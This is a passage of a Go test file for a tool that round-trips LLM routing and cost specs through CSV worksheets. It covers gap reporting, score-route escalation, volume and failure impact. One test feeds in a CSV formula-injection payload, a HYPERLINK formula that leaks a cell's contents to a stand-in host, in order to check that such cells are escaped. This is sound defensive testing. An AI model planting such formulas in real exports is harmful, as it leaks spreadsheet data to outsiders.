			if got := s.Model("small").Resolved.Provider.Type; got != tt.small {
				t.Errorf("small's provider type %q, want %q (%s)", got, tt.small, tt.why)
			}
			if !bytes.Contains(y, []byte(tt.yaml)) {
				t.Errorf("imported spec lacks %q (%s):\n%s", tt.yaml, tt.why, y)
			}
		})
	}
}

// TestGaps checks that what a worksheet cannot carry is named.
func TestGaps(t *testing.T) {
	const base = `version: 1
name: gaps
review: {last: 2026-10-01}
volume: {per_month: 1000}
providers: {sim: {type: simulated}}
models:
  a: {provider: sim, model: gpt-4o-mini, latency: {p50: 1s, p95: 2s}}
  b: {provider: sim, model: gpt-4o, latency: {p50: 1s, p95: 2s}}
categories:
  - name: c
    share: 1
    tokens: {in: 100, out: 10}
    quality_bar: 0.9
    assume: {pass_rate: {a: 0.9, b: 0.95}}
`
	tests := []struct {
		name  string
		route string
		model string // replaces model a's line
		want  string
		why   string
	}{
		{"static", "route: {model: a}", "", "", "in the class"},
		{"split", "route: {split: [{weight: 0.5, model: a}, {weight: 0.5, model: b}]}", "",
			"category c: split routes do not fit a worksheet row", "a row has one primary model"},
		{"step validators", "route: {cascade: [{model: a, validate: [{max_length: 5}]}, b]}", "",
			"category c: validators and on_fail of single cascade steps are not in a worksheet", "the row has one validation rule"},
		{"judge", "route: {cascade: [a, b], validate: [{judge: {model: b, rubric: Correct.}}]}", "",
			"category c: the validation rule cannot be read back into validators: judge b scores ≥ 0.70", "the rubric is not in the rule"},
		{"citations pattern", `route: {model: a, validate: [{citations: {pattern: '\(([0-9]+)\)'}}]}`, "",
			"category c: the citations pattern is not in a worksheet", "the summary leaves the pattern out"},
		{"price override", "route: {model: a}", "  a: {provider: sim, model: gpt-4o-mini, latency: {p50: 1s, p95: 2s}, price: {input: 1, output: 2}}",
			"", "in the class: the \"model price\" column carries it"},
		{"catalog key", "route: {model: a}", "  a: {provider: sim, model: my-mini, catalog: gpt-4o-mini, latency: {p50: 1s, p95: 2s}}",
			"model a: catalog keys are not in a worksheet", "the sheet has the model id only"},
		{"model fallback", "route: {model: a}", "  a: {provider: sim, model: gpt-4o-mini, latency: {p50: 1s, p95: 2s}, fallback: [b]}",
			"model a: model fallbacks are not in a worksheet", "only category fallbacks are"},
		{"context window", "route: {model: a}", "  a: {provider: sim, model: gpt-4o-mini, latency: {p50: 1s, p95: 2s}, context_window: 4000}",
			"model a: the context window override is not in a worksheet", "the estimate leaves requests longer than the window out"},
		{"escalated pass rate", "route: {cascade: [a, b], validate: [{max_length: 5}]}", "",
			"category c: escalated pass rates (assume.escalated_pass_rate) are not in a worksheet", "the estimate answers escalated requests at them"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			src := base + "    " + tt.route + "\n"
			if tt.model != "" {
				src = strings.Replace(src, "  a: {provider: sim, model: gpt-4o-mini, latency: {p50: 1s, p95: 2s}}", tt.model, 1)
			}
			if tt.name == "escalated pass rate" {
				src = strings.Replace(src, "assume: {pass_rate: {a: 0.9, b: 0.95}}", "assume: {pass_rate: {a: 0.9, b: 0.95}, escalated_pass_rate: {b: 0.7}}", 1)
			}
			s, err := spec.Parse([]byte(src), "gaps.yaml", spec.Options{})
			if err != nil {
				t.Fatalf("%v\n%s", err, src)
			}
			got := strings.Join(Gaps(s), "\n")
			if tt.want == "" && got != "" || !strings.Contains(got, tt.want) {
				t.Errorf("Gaps = %q, want %q (%s)", got, tt.want, tt.why)
			}
		})
	}
}

// TestScoreRowImports: a score route's row keeps its models, and its route cell its tiers
// and the measured shares, so that the imported route estimates as the original.
func TestScoreRowImports(t *testing.T) {
	y, s := reimport(t, export(t, load(t, "../examples/cross-vendor.yaml")), "../examples/imported.yaml")
	c := s.Category("questions")
	r := c.Route
	if r.Kind() != "score" || r.Score.Heuristic == nil || len(r.Score.Heuristic.Tiers) != 1 || r.Score.Heuristic.Tiers[0] != 0.3 ||
		r.Score.Models[0].Name != "nano" || r.Score.Models[1].Name != "sonnet" || len(r.Validate) != 1 {
		t.Errorf("imported questions route %+v\n%s", r, y)
	}
	if c.Assume.ScoreShare["nano"] != 0.65 || c.Assume.ScoreShare["sonnet"] != 0.35 {
		t.Errorf("score_share %v, want nano 0.65, sonnet 0.35:\n%s", c.Assume.ScoreShare, y)
	}
}

// TestScoreEscalateRow: a score route's row shows its escalation path: every model in order,
// or, with escalate, its cheapest model and the models failed answers go to.
func TestScoreEscalateRow(t *testing.T) {
	const src = `version: 1
name: score
review: {last: 2026-10-01}
volume: {per_month: 1000}
providers: {sim: {type: simulated}}
models:
  a: {provider: sim, model: gpt-4o-mini, latency: {p50: 1s, p95: 2s}}
  b: {provider: sim, model: gpt-4.1-mini, latency: {p50: 1s, p95: 2s}}
  c: {provider: sim, model: gpt-4o, latency: {p50: 1s, p95: 2s}}
categories:
  - name: q
    share: 1
    tokens: {in: 100, out: 10}
    quality_bar: 0.9
    route:
      score: {heuristic: {tiers: [0.3, 0.6]}, models: [a, b, c]ESCALATE}
      validate: [{max_length: 100}]
    assume: {pass_rate: {a: 0.8, b: 0.85, c: 0.95}}
`
	for _, tc := range []struct{ escalate, fallback string }{
		{"", "b=gpt-4.1-mini → c=gpt-4o"},
		{", escalate: [c]", "c=gpt-4o"},
	} {
		s, err := spec.Parse([]byte(strings.Replace(src, "ESCALATE", tc.escalate, 1)), "score.yaml", spec.Options{})
		if err != nil {
			t.Fatal(err)
		}
		rows, err := Rows(s, nil)
		if err != nil {
			t.Fatal(err)
		}
		if r := rows[0]; r.PrimaryModel != "a=gpt-4o-mini" || r.FallbackModel != tc.fallback {
			t.Errorf("%q: primary %q, escalation %q; want a=gpt-4o-mini and %q", tc.escalate, r.PrimaryModel, r.FallbackModel, tc.fallback)
		}
		// And back: the route cell names the models it starts on when they are not its steps.
		y, err := Import(bytes.NewReader(export(t, s)), ImportOptions{File: "score.csv"})
		if err != nil {
			t.Fatal(err)
		}
		back, err := spec.Parse(y, "back.yaml", spec.Options{})
		if err != nil {
			t.Fatalf("%v\n%s", err, y)
		}
		sc := back.Category("q").Route.Score
		if got := fmt.Sprint(refNames(sc.Models), refNames(sc.Escalate), sc.Heuristic.Tiers); got != fmt.Sprint([]string{"a", "b", "c"}, refNames(s.Category("q").Route.Score.Escalate), []float64{0.3, 0.6}) {
			t.Errorf("%q: imported score route %s:\n%s", tc.escalate, got, y)
		}
	}
}

// TestFormulaCellsEscaped: text from a spec that a spreadsheet would run as a formula is
// exported with a leading single quote (OWASP's advice for CSV files), and imported back as
// it was, quotes of its own included.
func TestFormulaCellsEscaped(t *testing.T) {
	s := load(t, "testdata/fixture.yaml")
	for _, why := range []string{
		`=HYPERLINK("https://example.invalid/?leak="&A1,"Click")`, "+1 for the small model", "-2 points of quality",
		"@SUM(A1:A9)", "\tindented", "'quoted already", "'=half escaped", "''", "plain text",
	} {
		s.Categories[0].Why = why
		sheet := export(t, s)
		cell := readCSV(t, sheet)[1][slices.Index(Columns, colWhy)]
		if strings.ContainsRune("=+-@\t\r'", rune(why[0])) {
			if cell != "'"+why {
				t.Errorf("why %q exported as %q, want it escaped with a leading single quote", why, cell)
			}
		} else if cell != why {
			t.Errorf("why %q exported as %q, want it as written", why, cell)
		}
		_, back := reimport(t, sheet, "testdata/imported.yaml")
		if got := back.Categories[0].Why; got != why {
			t.Errorf("why %q came back as %q", why, got)
		}
	}
}

// TestFailureImpactAndVolume: a worksheet carries each category's failure impact and the
// spec's volume, per day as per month, so that risk and monthly figures survive the round
// trip, and a hand-written sheet may word them freely.
// TestPipelineVolumeAssumedStaysAssumed: a pipeline spec without a volume exports none, though
// the loader sets the calls the default volume makes.
func TestPipelineVolumeAssumedStaysAssumed(t *testing.T) {
	y, err := os.ReadFile("../examples/rag-assistant.yaml")
	if err != nil {
		t.Fatal(err)
	}
	src := strings.Replace(string(y), "volume: {per_day: 20000}", "", 1)
	s, err := spec.Parse([]byte(src), "rag.yaml", spec.Options{})
	if err != nil {
		t.Fatal(err)
	}
	if got := formatVolume(s); got != "" {
		t.Errorf("volume cell %q for a spec that states none, want empty", got)
	}
}

func TestFailureImpactAndVolume(t *testing.T) {
	s := load(t, "../examples/rag-assistant.yaml")
	rows, err := Rows(s, nil)
	if err != nil {
		t.Fatal(err)
	}
	// With pipelines the sheet's shares are of model calls, and so is its volume: 20,000
	// questions a day, two calls each, are 1,200,000 calls a month.
	if rows[0].Volume != "1200000 per month" {
		t.Errorf("volume cell %q, want 1200000 per month (the calls the spec's 20,000 questions a day make)", rows[0].Volume)
	}
	_, back := reimport(t, export(t, s), "../examples/imported.yaml")
	if got, want := formatVolume(back), formatVolume(s); got != want {
		t.Errorf("volume %q after the round trip, want %q", got, want)
	}
	for i, c := range s.Categories {
		if got, want := formatImpact(back.Categories[i].FailureImpact), formatImpact(c.FailureImpact); got != want {
			t.Errorf("%s: failure impact %q after the round trip, want %q", c.Name, got, want)
		}
	}

	lines := strings.Split(strings.TrimSpace(baseSheet), "\n")
	sheet := lines[0] + ",failure impact,volume\n" + lines[1] + ",$0.50,3M/month\n" + lines[2] + ",\"bad_answer: 25, failed_request: 5\",\n"
	y, err := Import(strings.NewReader(sheet), ImportOptions{File: "hand.csv"})
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"volume: {per_month: 3000000}\n", "failure_impact: {bad_answer: 0.5}\n", "failure_impact: {bad_answer: 25, failed_request: 5}\n"} {
		if !bytes.Contains(y, []byte(want)) {
			t.Errorf("imported spec lacks %q:\n%s", want, y)
		}
	}
	if bytes.Contains(y, []byte("risk figures are zero")) || bytes.Contains(y, []byte("Traffic volume is not in the worksheet")) {
		t.Errorf("the sheet gives failure impact and volume, yet the header says it does not:\n%s", y)
	}
}

// TestOtherPassRateModelsDescribed: a model a row names only in "other pass rates" gets its
// latency, availability and provider type in that row, so that the estimate's single-model
// policies on it keep their figures after the round trip.
func TestOtherPassRateModelsDescribed(t *testing.T) {
	s := load(t, "../examples/batch-extraction.yaml")
	rows, err := Rows(s, nil)
	if err != nil {
		t.Fatal(err)
	}
	r := rows[0]
	if !strings.Contains(r.OtherPassRates, "nano=gpt-4.1-nano: 0.93") {
		t.Fatalf("nano is no longer an other pass rate of invoice (%q): pick another example", r.OtherPassRates)
	}
	for col, want := range map[string]string{
		colModelLatency:      "nano: ttft 300ms/900ms + 150 tok/s",
		colModelAvailability: "nano: 0.998",
		colModelProvider:     "nano: openai",
	} {
		if got := r.Cells()[slices.Index(Columns, col)]; !strings.Contains(got, want) {
			t.Errorf("%q = %q, want it to hold %q", col, got, want)
		}
	}
	y, back := reimport(t, export(t, s), "../examples/imported.yaml")
	nano := back.Model("nano")
	if nano.Resolved.LatencyDefault || formatLatency(nano.Resolved.Latency) != "ttft 300ms/900ms + 150 tok/s" || nano.Resolved.Availability != 0.998 {
		t.Errorf("nano after the round trip: latency %s, availability %v:\n%s", formatLatency(nano.Resolved.Latency), nano.Resolved.Availability, y)
	}
}

func TestParseImpact(t *testing.T) {
	for _, tc := range []struct {
		cell, want string
		ok         bool
	}{
		{"bad answer 25, failed request 5", "bad_answer: 25, failed_request: 5", true},
		{"bad answer 1,", "bad_answer: 1", true},
		{"2", "bad_answer: 2", true},
		{"bad answer 1, bad answer 2", "", false},
		{"lots", "", false},
	} {
		if got, ok := parseImpact(tc.cell); got != tc.want || ok != tc.ok {
			t.Errorf("parseImpact(%q) = %q, %v; want %q, %v", tc.cell, got, ok, tc.want, tc.ok)
		}
	}
}
